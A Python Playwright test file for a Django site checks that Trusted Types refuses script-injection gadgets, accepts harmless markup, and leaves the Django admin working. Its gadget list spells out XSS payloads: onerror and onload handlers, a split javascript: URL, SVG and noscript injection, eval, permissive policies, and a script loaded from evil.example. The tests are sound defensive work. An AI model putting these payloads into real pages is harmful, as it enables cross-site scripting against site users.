"""Trusted Types in a real browser: text that would run is refused wherever script makes markup of it, and pages still work."""

import json
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Page, Route
from pytest_django.live_server_helper import LiveServer

from accounts.models import User
from accounts.signing_in import SECOND_FACTOR
from tests import factories
from tests.browser.conftest import REFUSAL
from tests.factories import World

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

NAME = settings.SESSION_COOKIE_NAME
# What somebody might get one of our scripts to do, each with what the browser says of it.
GADGETS = {
    "markup with a handler": "document.createElement('p').innerHTML = '<img src=x onerror=window.ran=1>'",
    "a page's handler": "new DOMParser().parseFromString('<body onload=window.ran=1>', 'text/html')",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=x></iframe>')",
    "an address that is script": "document.createElement('p').innerHTML = '<a href=\"java\\nscript:x\">x</a>'",
    "script in a drawing": "document.createElement('p').innerHTML = '<svg><script>window.ran=1</scr' + 'ipt></svg>'",
    "script in a template": "document.createElement('p').innerHTML = '<template><b onclick=x></b></template>'",
    "hidden from who doesn't run script": (
        "document.body.insertAdjacentHTML('beforeend', '<noscript><p title=\"</noscript><img src=x onerror=1>\"></noscript>')"
    ),
    "somebody else's script": "document.createElement('script').src = 'https://evil.example/x.js'",
    "data as script": "document.createElement('script').src = 'data:text/javascript,window.ran=1'",
    "text as script": "document.createElement('script').text = 'window.ran=1'",
    "eval": "eval('window.ran=1')",
    "a function of text": "new Function('window.ran=1')()",
    "text on a clock": "setTimeout('window.ran=1', 0)",
    "a policy of its own": "trustedTypes.createPolicy('evil', { createHTML: (text) => text })",
    "a second default": "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
    "a second inspection": "trustedTypes.createPolicy('inspect', { createHTML: (text) => text })",
}
HARMLESS = {
    "markup": "document.createElement('p').innerHTML = '<b>bold</b> <a href=\"/x\">a</a> <a href=\"mailto:x@y.z\">b</a>'",
    "our own script": "document.createElement('script').src = '/static/js/app.js'",
    "the page itself": "document.createElement('p').innerHTML = document.documentElement.outerHTML",
    "data in a page": "document.createElement('p').innerHTML = '<script type=\"application/json\">{}</scr' + 'ipt>'",
}


def outcomes(page: Page, url: str, gadgets: dict[str, str]) -> dict[str, str]:
    """Open a page whose own script does each of these, and return what came of it: "done", or the error."""
    tries = "".join(
        f"try {{ {gadget}; said[{json.dumps(name)}] = 'done'; }}"
        f" catch (error) {{ said[{json.dumps(name)}] = error.name; }}"
        for name, gadget in gadgets.items()
    )
    script = f"const said = {{}}; {tries} document.documentElement.dataset.said = JSON.stringify(said);"

    def with_gadgets(route: Route) -> None:
        route.fulfill(body=script, content_type="text/javascript")

    page.route("**/static/js/app.js", with_gadgets)
    page.goto(url)
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    said: dict[str, str] = json.loads(page.locator("html").get_attribute("data-said") or "{}")
    page.unroute("**/static/js/app.js")
    return said


def quietly(browser: Any, live_server: LiveServer, *, bypass_csp: bool) -> Page:
    """A page whose refusals fail no test: they are what is looked for."""
    page: Page = browser.new_context(base_url=live_server.url, bypass_csp=bypass_csp).new_page()
    return page


def test_text_that_would_run_is_refused(stage: World, browser: Any, live_server: LiveServer) -> None:
    page = quietly(browser, live_server, bypass_csp=False)
    said = outcomes(page, "/sign-in/", GADGETS)
    page.context.close()
    assert set(said) == set(GADGETS)
    assert {name: end for name, end in said.items() if end == "done"} == {}


def test_text_that_runs_nothing_is_taken(stage: World, browser: Any, live_server: LiveServer) -> None:
    page = quietly(browser, live_server, bypass_csp=False)
    said = outcomes(page, "/sign-in/", HARMLESS)
    page.context.close()
    assert said == dict.fromkeys(HARMLESS, "done")


def test_admin_works_with_it(stage: World, browser: Any, live_server: LiveServer) -> None:
    """Django's own scripts (filters, calendars, select2 over jQuery) build their markup, and nothing is refused."""
    root = User.objects.create_superuser("root@example.edu", display_name="Root")
    client = factories.browser(root, into=stage.institution)
    session = client.session
    session[SECOND_FACTOR] = str(root.pk)
    session.save()
    context = browser.new_context(base_url=live_server.url)
    context.add_cookies([{"name": NAME, "value": client.cookies[NAME].value, "url": live_server.url}])
    page, problems = context.new_page(), list[str]()
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda said: problems.append(said.text) if REFUSAL.search(said.text) else None)
    page.goto("/admin/forum/thread/")
    page.goto(f"/admin/accounts/user/{stage.user('sam').pk}/change/")
    assert page.evaluate("django.jQuery('<p><b>x</b></p>').children().length") == 1
    page.goto("/admin/accounts/enrollment/add/")
    page.locator(".select2-selection").first.click()
    page.locator(".select2-search__field").fill("sam")
    page.locator(".select2-results__option", has_text="Surname-sam").first.click()
    page.goto("/admin/forum/assignment/add/")
    page.locator(".datetimeshortcuts a").first.click()
    context.close()
    assert problems == []
